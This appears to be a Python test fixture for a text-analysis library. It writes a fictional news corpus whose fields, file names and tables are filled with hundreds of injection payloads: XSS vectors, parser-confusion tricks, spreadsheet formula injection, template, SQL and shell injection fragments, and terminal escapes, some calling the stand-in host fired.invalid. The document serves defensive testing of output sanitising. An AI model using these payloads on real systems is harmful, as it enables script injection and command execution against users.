"""A corpus of fictional articles that carry script wherever an article, a file or an analyst may put text, and what must come of it.

A payload is a line of `LINES` in which JS stands for a script and URL for an address that must never be asked for; each has a number of
its own, so that what fires, and what is lost, is known by it. `write_corpus` puts all of them into every field of the articles, and
those that the loaders accept into file names, ``metadata.csv``, ``knowledge/`` and ``coding/``.
"""

import csv
import io
import json
import re
from pathlib import Path

import cuttings as ct
import nbformat
from cuttings.coding import list_units
from cuttings.loading.cleaning import repair
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

HOST = "fired.invalid"
EFFECTS = ("document.title='{0}'", "console.log('{0}')", "alert('{0}')", f"fetch('http://{HOST}/{{0}}')", "window.fired='{0}'")

# what fires by itself, where it becomes part of a page
ON_LOAD = """
<script>JS</script>
<SCRIPT >JS</SCRIPT >
<script/x>JS</script>
<script type=module>JS</script>
<script>JS//
<script><!-- -->␤JS</script>
<scr<script>ipt>JS</scr</script>ipt>
</script><script>JS</script>
<svg><script>JS</script></svg>
<svg><script>JS<br>
<math></math><script>JS</script>
<script src=URL.js></script>
<img src=x onerror=JS>
<img src=x onerror="JS">
<img src=x onerror='JS;"'>
<img src=x:x onerror=JS//
<img/src=x/onerror=JS>
<IMG SRC=x ONERROR="JS">
<img src=x onerror&#61;x onerror="&#x64;ocument.title='x';JS">
<img src="x` `><script>JS</script>"` `>
<img srcset=URL.png>
<img src=URL.gif>
<image src=x onerror=JS>
<input type=image src=x onerror=JS>
<svg onload=JS>
<svg/onload=JS>
<svg><animate onbegin=JS attributeName=x dur=1s>
<svg><set onbegin=JS attributeName=x>
<svg><image href=x onerror=JS>
<svg><style>/*</style><img src=x onerror=JS>*/
<video src=x onerror=JS></video>
<video poster=URL.jpg></video>
<video><source onerror=JS></video>
<audio src=x onerror=JS></audio>
<body onload=JS>
<style onload=JS></style>
<style>@import 'URL.css';</style>
<style>*{background:url(URL.png)}</style>
<div style="position:fixed;inset:0;background:url(URL.png)">over all</div>
<link rel=stylesheet href=URL.css>
<link rel=stylesheet href=x onerror=JS>
<link rel=preload as=image href=URL.png>
<meta http-equiv=refresh content="0;url=URL">
<object data=x onerror=JS></object>
<object data=URL></object>
<embed src=URL>
<iframe src=URL></iframe>
<iframe onload=JS></iframe>
<iframe src="javascript:parent.JS"></iframe>
<iframe srcdoc="<script>JS</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=JS&gt;"></iframe>
<iframe src="data:text/html,<script>JS</script>"></iframe>
<object data="data:text/html,<script>JS</script>"></object>
<details open ontoggle=JS>more</details>
<input autofocus onfocus=JS>
<textarea autofocus onfocus=JS></textarea>
<select autofocus onfocus=JS></select>
<button autofocus onfocus=JS>press</button>
<a href=x autofocus onfocus=JS>read</a>
<p tabindex=0 autofocus onfocus=JS>read</p>
<style>@keyframes k{}</style><p style=animation:k onanimationstart=JS>moved</p>
<p style="transition:color 1s" ontransitionend=JS>faded</p>
<marquee onstart=JS>moved</marquee>
"><img src=x onerror=JS>
'><img src=x onerror=JS>
--><img src=x onerror=JS>
]]><img src=x onerror=JS>
</title><img src=x onerror=JS>
</style><img src=x onerror=JS>
</textarea><img src=x onerror=JS>
</pre></code><img src=x onerror=JS>
</details></main></body><img src=x onerror=JS>
</td></tr></table><img src=x onerror=JS>
</mark></blockquote><img src=x onerror=JS>
</svg></math><img src=x onerror=JS>
<!--><img src=x onerror=JS>
<!---><img src=x onerror=JS>-->
<![CDATA[><img src=x onerror=JS>]]>
<?x ><img src=x onerror=JS>
<noscript><p title="</noscript><img src=x onerror=JS>">
<xmp><p title="</xmp><img src=x onerror=JS>">
<title><a title="</title><img src=x onerror=JS>">
<textarea><a title="</textarea><img src=x onerror=JS>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=JS&gt;">
<svg></p><style><a id="</style><img src=x onerror=JS>">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=JS>">
<svg><desc><noembed></noembed><style><p title="</style><img src=x onerror=JS>">
<table><caption><svg><title><table><caption></caption></table><img src=x onerror=JS>
<select><option><iframe></select><img src=x onerror=JS>
<math><annotation-xml encoding="text/html"><img src=x onerror=JS></annotation-xml></math>
<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>
<template><b></template><img src=x onerror=JS>
<b><p><b><img src=x onerror=JS></p></b>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">JS</x:script><img src=x onerror=JS>
"""

# what fires when it is touched, or is read wrongly once more, or by another program
LATER = """
<a href="javascript:JS">read on</a>
<a href="JaVaScRiPt:JS">read on</a>
<a href="java&#10;script:JS">read on</a>
<a href="&#1;javascript:JS">read on</a>
<a href="data:text/html,<script>JS</script>">read on</a>
<a href="vbscript:JS">read on</a>
<a href=URL ping=URL>read on</a>
<svg><a xlink:href="javascript:JS"><text y=9>read on</text></a></svg>
<math><mtext href="javascript:JS">read on</mtext></math>
<form action="javascript:JS"><button>send</button></form>
<form id=f></form><button form=f formaction="javascript:JS">send</button>
<isindex action="javascript:JS" type=image>
<base href="http://fired.invalid/">
<details><summary onclick=JS>open</summary></details>
<label for=all onclick=JS>all</label>
<dialog open onclose=JS><form method=dialog><button>shut</button></form></dialog>
<div contenteditable onpaste=JS>write</div>
" onmouseover=JS x="
' onmouseover=JS x='
` onmouseover=JS x=`
x onmouseover=JS
" autofocus tabindex=0 onfocus="JS
&lt;img src=x onerror=JS&gt;
&amp;lt;img src=x onerror=JS&amp;gt;
&#60;img src=x onerror=JS&#62;
&#x3c;img src=x onerror=JS&#x3e;
&lt;script&gt;JS&lt;/script&gt;
&LT;script&GT;JS&LT;/script&GT;
%3Cscript%3EJS%3C/script%3E
%253Cimg src=x onerror=JS%253E
\\u003cimg src=x onerror=JS\\u003e
\\x3cimg src=x onerror=JS\\x3e
\\74img src=x onerror=JS\\76
+ADw-script+AD4-JS+ADw-/script+AD4-
＜img src=x onerror=JS＞
‹script›JS‹/script›
<\u200bimg src=x onerror=JS>
<\u0000img src=x onerror=JS>
<\ufeffscript>JS</script>
<scr\u00adipt>JS</scr\u00adipt>
\u202e>tpircs<\u202c<img src=x onerror=JS>
\u2066<img src=x onerror=JS>\u2069
<img\u00a0src=x onerror=JS>
<img\u2028src=x onerror=JS>
<İmg src=x onerror=JS>
<ſcript>JS</ſcript>
\ud800<img src=x onerror=JS>
<img src=x onerror=JS>\udfff
<img src=x onerror=JS
<a title="never shut <img src=x onerror=JS>
<!-- never shut <img src=x onerror=JS>
<style>never shut
<textarea>never shut
<plaintext>
<script>never shut
<b><i><u><table><tr><td>never shut
$\\href{javascript:JS}{x}$
$\\style{background:url(URL.png)}{x}$
$$\\unicode{x3c}img src=x onerror=JS\\unicode{x3e}$$
$\\class{<img src=x onerror=JS>}{x}$
$x^2 + \\alpha_JS$
$1bn, then $2bn and US$3.50 JS
$$\\sum_{i=1}^n JS$$
\\(x^2\\) and \\[y^2\\] JS
\\begin{equation}x^2\\end{equation} JS
\\$ and \\\\$ and $$$ JS
$\\require{html}\\cssId{x}{y}$ JS
$\\undefined{ JS
[read on](javascript:JS)
[read on](<javascript:JS>)
[read on](data:text/html,<script>JS</script>)
![a picture](URL.png)
![a picture](x"onerror="JS)
<javascript:JS>
<http://fired.invalid/x"onmouseover="JS>
http://fired.invalid/"onmouseover="JS
www.fired.invalid/<img/src=x/onerror=JS>
[a]: javascript:JS
[a][a] and [b](# "x" onmouseover="JS)
`</code><img src=x onerror=JS>`
```</code></pre><img src=x onerror=JS>
| a | <img src=x onerror=JS> | b |
# A heading with <img src=x onerror=JS>
***bold*** __bold__ ~~gone~~ ^up^ <img src=x onerror=JS>
=HYPERLINK("URL";"JS")
=cmd|'/c JS'!A1
+1+cmd|'/c JS'!A1
-2+3+JS
@SUM(1+1)*JS
\t=1+JS
;=1+JS
"=1+JS"
{{7*7}} JS
{{ self.__init__.__globals__ }} JS
{% raw %}<img src=x onerror=JS>{% endraw %}
{% endblock %}{% block main %}<script>JS</script>
{# JS #}
{{{JS}}}
${JS}
#{JS}
<%= JS %>
<?php JS ?>
[[JS]] ((JS)) ⟦JS⟧
{0.__class__} %s %n %(x)s JS
\x1b[31mred\x1b[0m JS
\x1b]8;;http://fired.invalid/\x07link\x1b]8;;\x07 JS
\x1b[2J\x1b[1;1H JS
\x9b31m JS
\x1b]0;JS\x07
\x08\x08\x08\x7f JS
\r<img src=x onerror=JS>
a␤b␤<img src=x onerror=JS>
\x0b\x0c<img src=x onerror=JS>
' OR 1=1; -- JS
; rm -rf x; JS
$(JS) `JS` | JS
../../x<img src=x onerror=JS>
__proto__ constructor toString JS
evidence-x"><img src=x onerror=JS>
None NaN null true 0 JS
"""

# elements with events of their own: what a filter by lists of names would have to know
ELEMENTS = (
    "a b p div span i u s q em abbr h1 h5 li td th table figure figcaption section nav main mark footer blockquote pre svg math x-y".split()
)
EVENTS = "mouseover mouseenter mousemove mousedown pointerover pointerenter focusin click dblclick contextmenu wheel copy keydown".split()


FICTION = "A fictional report of pact {n} between Fictland{n} and Malaysia"


def _payloads() -> dict[str, str]:
    """Return all payloads by what tells one from another: the words that it writes when it fires."""
    touched = [f"<{tag} on{event}=JS>touch</{tag}>" for n, tag in enumerate(ELEMENTS) for event in EVENTS[n % 4 :: 4]]
    lines = [line for line in (ON_LOAD + LATER).split("\n") if line] + touched
    scripts = [EFFECTS[n % len(EFFECTS)].format(f"fired-{n:03}") for n in range(len(lines))]
    made = [
        line.replace("JS", js).replace("URL", f"http://{HOST}/fired-{n:03}")
        for n, (line, js) in enumerate(zip(lines, scripts, strict=True))
    ]
    return {f"fired-{n:03}": payload.replace("␤", "\n") for n, payload in enumerate(made)}


PAYLOADS = _payloads()
LOUD = [f"fired-{n:03}" for n in range(len(ON_LOAD.split("\n")) - 2)]
PLAIN = [payload for payload in PAYLOADS.values() if not re.search("[\0\ud800-\udfff]", payload)]  # what is text in any file
NAMES = [payload for payload in PLAIN if "/" not in payload and len(payload.encode()) < 200]  # what a file may be called
NAME = "<img src=x onerror=alert('fired-999')> $x$ {{7*7}}"  # of the folder
CELLS = """
import cuttings as ct, pandas as pd
ct.setup(); pd.set_option("display.max_rows", None, "display.max_colwidth", None)
corpus = ct.read_corpus(ct.corpus_folder()); codebook = ct.read_codebook("defence", corpus); actors = ct.read_actors(corpus)
mentions = ct.find_actors(corpus, actors); speech = ct.find_speech(corpus, mentions); hits = ct.code_frames(corpus, codebook, speech=speech)
corpus.articles
corpus.ledger
corpus.removed
actors[actors["note"] != "by template"].tail(200)
codebook[codebook["term"].str.contains("fict")]
ct.quote(corpus, corpus.sentences, n=10_000)
ct.quote(corpus, mentions, by="actor", n=2)
ct.quote(corpus, hits, by="frame", n=2)
ct.quote(corpus, speech, n=100)
ct.read_coding(corpus.folder, codebook)
ct.read_coding(corpus.folder, what="speakers")
ct.find_context(corpus, "fictional").head(100)
ct.say(" ".join(corpus.articles["title"].dropna()))
"""


def story(n: int, payload: str) -> str:
    """Return the text of a fictional article."""
    return f"{FICTION.format(n=n)} tells of fictcue{n}, {payload} and a ship.\n\n“{payload},” a minister of Fictland{n} said."


def squash(text: str) -> str:
    """Return a text without spaces and line ends, which tables write as two signs."""
    return re.sub(r"\\n|\s", "", text)


def lost(text: str) -> list[str]:
    """Return the payloads that cannot be read in what a browser shows, as the one repair of all texts leaves them."""
    shown = squash(text)
    return [payload for payload in PAYLOADS.values() if squash(repair(payload)[0]) not in shown]


def write_notebook(folder: Path) -> None:
    """Add to a folder of notebooks one that shows everything."""
    cells = [new_markdown_cell("# 6 · Everything\n\nWhat is there?"), *(new_code_cell(line) for line in CELLS.strip().split("\n"))]
    nbformat.write(
        new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3"}}), folder / "06_everything.ipynb"
    )


def write_corpus(folder: Path) -> Path:
    """Write the corpus into a folder whose name is a payload too, and return it."""
    corpus = folder / NAME
    for place in (corpus / "knowledge", corpus / "coding"):
        place.mkdir(parents=True)
    fields = ("title", "deck", "outlet", "author", "place", "section", "url")
    rows = [
        {"text": story(n, payload), "date": f"2025-{1 + n % 12:02}-{1 + n % 28:02}"} | dict.fromkeys(fields, payload)
        for n, payload in enumerate(PAYLOADS.values())
    ]
    (corpus / "stories.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    fields = ("title", "date", "lang", "place", "url", "author")
    some = list(enumerate(PLAIN, 1000))[::6]
    _table(corpus / "table.csv", [{"text": story(n, payload)} | dict.fromkeys(fields, payload) for n, payload in some])
    _write_files(corpus)
    _write_knowledge(corpus / "knowledge")
    _write_coding(corpus)
    return corpus


def _table(path: Path, rows: list[dict]) -> None:
    file = io.StringIO()
    writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(file.getvalue().encode())


def _write_files(corpus: Path) -> None:
    """Write files that are called as payloads: articles and others, a page, and ``metadata.csv``, which names more than there are."""
    for n, name in enumerate(NAMES, 2000):
        (corpus / f"{name}.txt").write_text(f"{name}\n\n{story(n, name)}", encoding="utf-8") if n % 4 == 0 else (corpus / name).write_bytes(
            b"\0"
        )
    named = dict.fromkeys(unicode.strip().removeprefix("./") for unicode in PLAIN)
    _table(corpus / "metadata.csv", [{"file": f"{name}.txt", "title": name, "outlet": name, "date": name} for name in named])
    page = "".join(f"<p>{story(n, payload)}</p>" for n, payload in enumerate(map(_encoded, PLAIN[::5]), 3000))
    (corpus / "page.html").write_text(f"<html><body><article><h1>A fictional page</h1>{page}</article></body></html>", encoding="utf-8")
    (corpus / "corpus.toml").write_text(f"source = {json.dumps(PLAIN[1])}\n", encoding="utf-8")


def _encoded(text: str) -> str:
    return "".join(f"&#{ord(sign)};" if sign in "<>&\"'" else sign for sign in text)


def _write_knowledge(folder: Path) -> None:
    """Write actors, frames, cues and lines of boilerplate that are called as payloads."""
    kinds = ("company", "person", "state", "organisation")
    some = [(n, payload) for n, payload in enumerate(PAYLOADS.values()) if payload in PLAIN]
    ids = {payload.strip(): n for n, payload in some[::7]}
    actors = [{"id": name, "kind": kinds[n % 4], "aliases": f"Fictland{n}", "note": name} for name, n in ids.items()]
    _table(folder / "actors.csv", [*actors, {"id": "An alias", "kind": "company", "aliases": PLAIN[2], "note": ""}])
    names = {payload.strip(): n for n, payload in some[::25]}
    _table(folder / "frames.csv", [{"set": "defence", "frame": name, "definition": name, "source": name} for name in names])
    cues = [{"set": "defence", "frame": name, "term": f"fictcue{n}", "match": "word", "note": name} for name, n in names.items()]
    _table(folder / "cues.csv", [*cues, *({**cue, "term": f"fict {cue['frame']}", "match": "phrase"} for cue in cues)])
    rules = [payload for payload in PLAIN if ":" not in payload and len(payload.splitlines()) == 1 and payload[0] != "#"][::20]
    lines = [f"{name}: a fictional line {n}" for n, name in enumerate(rules)]
    (folder / "boilerplate.txt").write_text("\n".join(lines), encoding="utf-8")
    (folder.parent / "lines.txt").write_text("\n\n".join([story(9000, "ships"), *(line.partition(": ")[2] for line in lines)]))


def _write_coding(corpus: Path) -> None:
    """Write sheets of coders who are called as payloads, and code frames, actors and speakers of such names."""
    read = ct.read_corpus(corpus)
    frames = [frame for frame in ct.read_codebook("defence", read)["frame"].unique() if "fired" in frame]
    units = list_units(read, "sentence")["unit"][:60]
    labels = [payload.replace("|", "/") for payload in PLAIN]
    for coder in NAMES[::40]:
        rows = [
            {"unit": unit, "actors": labels[n], "speakers": labels[-n]} | {frame: (n + k) % 2 for k, frame in enumerate(frames)}
            for n, unit in enumerate(units, 1)
        ]
        _table(corpus / "coding" / f"{coder}.csv", rows)
